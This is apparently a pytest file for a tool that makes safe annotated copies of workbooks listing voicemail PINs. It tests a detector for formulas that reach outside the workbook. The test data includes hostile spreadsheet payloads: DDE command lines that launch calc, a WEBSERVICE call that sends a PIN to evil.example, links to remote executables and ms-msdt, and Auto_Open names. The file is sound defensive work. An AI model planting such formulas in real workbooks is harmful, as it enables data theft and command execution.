"""A copy of a person's workbook, beside generated PINs, reaches nothing outside of it and runs nothing."""

import re
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference, Series
from openpyxl.formatting.rule import ColorScale, FormatObject, Rule
from openpyxl.packaging.relationship import Relationship
from openpyxl.styles import Color
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula
from openpyxl.worksheet.table import Table, TableColumn, TableFormula

from bulkvm.readers import read_sheet
from bulkvm.reports.annotated import write_annotated
from bulkvm.reports.own_reach import reaches_out
from bulkvm.validation import validate

SHEETS = frozenset({"boxes", "my sheet", "o'neil", "sheet2", "sheet3"})
REACHING = (
    '=WEBSERVICE("http://x.example/?"&C2)',
    "=_xlfn.WEBSERVICE(A1)",
    '=webservice ("http://x.example")',
    '=LEN(WEBSERVICE\n("http://x.example"))',
    '=HYPERLINK("http://x.example","y")',
    '=_xlfn.IMAGE("http://x.example")',
    '=RTD("a",,"b")',
    "=cmd|'/C calc'!A0",
    "=cmd|'/C calc.exe'!'A0'",
    "=MSEXCEL|'\\..\\..\\cmd'!A0",
    '=DDE("a","b","c")',
    '=FILTERXML(A1,"//x")',
    '=CALL("a","b")',
    '=REGISTER.ID("a","b")',
    '=EXEC("calc")',
    '=IMPORTDATA("http://x.example")',
    "=INDIRECT(A1)",
    '=CUBEVALUE("x")',
    '=SQL.REQUEST("x")',
    "=MyOwnFunction(A1)",
    "=_xll.Foo(1)",
    '=COM.EXAMPLE.X("x")',
    "=[1]Sheet1!A1",
    "=[1]Boxes!A1",
    "=[1]!name",
    "=[Book.xlsx]Boxes!A1",
    "=Book.xlsx!name",
    "='[1]My Sheet'!A1",
    "=SUM(A1,'[1]Boxes'!A1)",
    "='C:\\x\\[a.xlsx]Boxes'!A1",
    "='\\\\server\\share\\[a.xlsx]Boxes'!A1",
    "='http://x.example/[a.xlsx]Boxes'!A1",
    "='file:///x.ods'#$Boxes.A1",
    "=Other!A1",
    "=" + "(" * 9_000,
    "=" + "'" * 9_000,
)
HARMLESS = (
    "=SUM(A1:A9)",
    '=A1&" "&B1',
    '=IF(A1="x|y!","http://x.example",B1)',
    "=Boxes!A1",
    "='My Sheet'!$A$1:$B$2",
    "='O''Neil'!A1",
    "=SUM(Sheet2:Sheet3!A1)",
    "='Sheet2:Sheet3'!A1",
    "=VLOOKUP(A1,Boxes!$A:$B,2,FALSE)",
    "=_xlfn.XLOOKUP(A1,B:B,C:C)",
    "=_xlfn._xlws.SORT(A1:A3)",
    "=Boxes!#REF!+1",
    "=Table1[[#This Row],[a b]]+[@Col]",
    "=A1#",
    "={1,2;3,4}",
    '"yes,no"',
    "Boxes!$A$1:$A$9",
    '="a""b|c"',
)


@pytest.mark.parametrize("formula", REACHING)
def test_a_formula_that_may_reach_out_is_known(formula: str) -> None:
    assert reaches_out(formula, SHEETS)


@pytest.mark.parametrize("formula", HARMLESS)
def test_a_formula_that_only_calculates_is_let_be(formula: str) -> None:
    assert not reaches_out(formula, SHEETS)


def harmless_workbook() -> Workbook:
    workbook = Workbook()
    sheet = workbook.worksheets[0]
    sheet.title = "Boxes"
    for row in (["Ext", "Name", "PIN", "Remark"], ["6201", "Front Desk", "402817"], ["6202", "Lab", "024680"]):
        sheet.append(row)
    sheet["D2"] = "=LEN(B2)"
    sheet["D3"].hyperlink = "mailto:desk@example.com"
    workbook.create_sheet("Lists")["A1"] = "=Boxes!B2"
    workbook.defined_names["places"] = DefinedName("places", attr_text="Lists!$A$1:$A$9")
    validation = DataValidation("list", formula1="Lists!$A$1:$A$9", sqref="D2:D9")
    sheet.add_data_validation(validation)
    sheet.conditional_formatting.add("D2:D9", Rule(type="expression", formula=["LEN(D2)>3"]))
    return workbook


def hostile_workbook() -> Workbook:
    workbook = harmless_workbook()
    boxes, lists = workbook.worksheets
    boxes["E2"] = '=_xlfn.WEBSERVICE("http://evil.example/?p="&C2)'
    boxes["E3"] = ArrayFormula("E3:E3", "=[1]Sheet1!A1")
    lists["B1"] = "=cmd|'/C calc'!A0"
    boxes["A3"].hyperlink = "file:///C:/evil.bat"
    lists["C1"].hyperlink = "\\\\evil.example\\share\\x.exe"
    lists["C2"].hyperlink = "ms-msdt:/id x"
    for name in ("Auto_Open", "auto_close_2", "Workbook_Open"):
        workbook.defined_names[name] = DefinedName(name, attr_text="Lists!$A$1")
    workbook.defined_names["evil"] = DefinedName("evil", attr_text="[1]Sheet1!$A$1")
    workbook.defined_names["macro"] = DefinedName("macro", attr_text="Lists!$A$1", xlm=True)
    lists.defined_names["local"] = DefinedName("local", attr_text='WEBSERVICE("http://evil.example")')
    boxes.add_data_validation(DataValidation("list", formula1="INDIRECT(A2)", sqref="E2:E9"))
    boxes.conditional_formatting.add("E2:E9", Rule(type="expression", formula=['WEBSERVICE("http://evil.example")>0']))
    points = [FormatObject(type="formula", val="[1]Sheet1!$A$1"), FormatObject(type="max")]
    scale = ColorScale(cfvo=points, color=[Color("FFFF0000"), Color("FF00FF00")])
    lists.conditional_formatting.add("A1:A9", Rule(type="colorScale", colorScale=scale))
    chart = BarChart()
    chart.append(Series(Reference(range_string="'[1]Sheet1'!$A$1:$A$3")))
    boxes.add_chart(chart, "H2")
    table = Table(displayName="T", name="T", ref="G1:H2", tableType="queryTable", connectionId=1)
    table.tableColumns = [TableColumn(id=1, name="g"), TableColumn(id=2, name="h", queryTableFieldId=2)]
    table.tableColumns[0].calculatedColumnFormula = TableFormula(attr_text='WEBSERVICE("http://evil.example")')
    lists["G1"], lists["H1"] = "g", "h"
    lists.add_table(table)
    book = ExternalBook(id="rId1")
    link = ExternalLink(externalBook=book)
    target = "file:///C:/evil.xlsx"
    link.file_link = Relationship("rId1", type="externalLinkPath", Target=target, TargetMode="External")
    vars(workbook)["_external_links"].append(link)
    return workbook


def annotate(workbook: Workbook, folder: Path) -> Path:
    workbook.save(folder / "boxes.xlsx")
    sheet = read_sheet(folder / "boxes.xlsx")
    return write_annotated(folder / "copy.xlsx", sheet, validate(sheet).problems)


def notices(file: Path) -> str:
    return " ".join(str(cell.value) for cell in openpyxl.load_workbook(file)["bulkvm"]["A"])


def formulas(file: Path) -> set[str]:
    workbook = openpyxl.load_workbook(file)
    cells: list[Any] = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    return {str(getattr(cell.value, "text", cell.value)) for cell in cells if cell.data_type == "f"}


def test_nothing_in_a_copy_reaches_out_of_it_or_starts_by_itself(tmp_path: Path) -> None:
    copy = annotate(hostile_workbook(), tmp_path)

    with ZipFile(copy) as archive:
        parts = {name: archive.read(name).decode(errors="replace") for name in archive.namelist()}
    assert formulas(copy) == {"=LEN(B2)", "=Boxes!B2"}
    assert not [name for name in parts if "external" in name.lower() or "connection" in name or "query" in name.lower()]
    assert "copied whole" not in notices(copy)
    structure = {name: re.sub("<t( [^>]*)?>[^<]*</t>", "", text) for name, text in parts.items()}
    for word in (
        "evil",
        "calc'",
        "WEBSERVICE",
        "INDIRECT",
        "[1]",
        "uto_",
        "Workbook_Open",
        "msdt",
        "queryTable",
        "xlm=",
    ):
        assert not [name for name, text in structure.items() if word in text], word
    relations = " ".join(text for name, text in parts.items() if name.endswith(".rels"))
    assert relations.count('TargetMode="External"') == 1  # the address


def test_what_reached_out_is_text_and_the_summary_says_what_it_was(tmp_path: Path) -> None:
    copy = annotate(hostile_workbook(), tmp_path)

    workbook = openpyxl.load_workbook(copy)
    assert workbook["Boxes"]["E2"].value == '=_xlfn.WEBSERVICE("http://evil.example/?p="&C2)'
    assert workbook["Boxes"]["E2"].data_type == "s"
    assert workbook["Lists"]["B1"].value == "=cmd|'/C calc'!A0"
    told = notices(copy)
    assert "3 formulas (Boxes!E2, Boxes!E3, Lists!B1), " in told
    for what in (
        "3 links",
        "6 names",
        "1 connection to",
        "1 input rule",
        "2 conditional formats",
        "1 chart",
        "1 query",
    ):
        assert what in told


def test_harmless_formulas_names_links_and_rules_stay(tmp_path: Path) -> None:
    copy = annotate(harmless_workbook(), tmp_path)

    workbook = openpyxl.load_workbook(copy)
    assert formulas(copy) == {"=LEN(B2)", "=Boxes!B2"}
    assert workbook.defined_names["places"].value == "Lists!$A$1:$A$9"
    assert workbook["Boxes"]["D3"].hyperlink.target == "mailto:desk@example.com"
    assert [rule.formula1 for rule in workbook["Boxes"].data_validations.dataValidation] == ["Lists!$A$1:$A$9"]
    assert [rule.formula for area in workbook["Boxes"].conditional_formatting for rule in area.rules] == [["LEN(D2)>3"]]
    assert "reaches out" not in notices(copy)


def test_a_formula_that_reaches_out_in_a_column_that_is_read_is_refused_again(tmp_path: Path) -> None:
    workbook = harmless_workbook()
    workbook.worksheets[0]["B3"] = '=WEBSERVICE("http://evil.example")'

    copy = annotate(workbook, tmp_path)

    assert formulas(copy) == {"=LEN(B2)", "=Boxes!B2"}
    assert [(p.cell, p.code) for p in validate(read_sheet(copy)).problems if p.is_error] == [("B3", "cell-refused")]
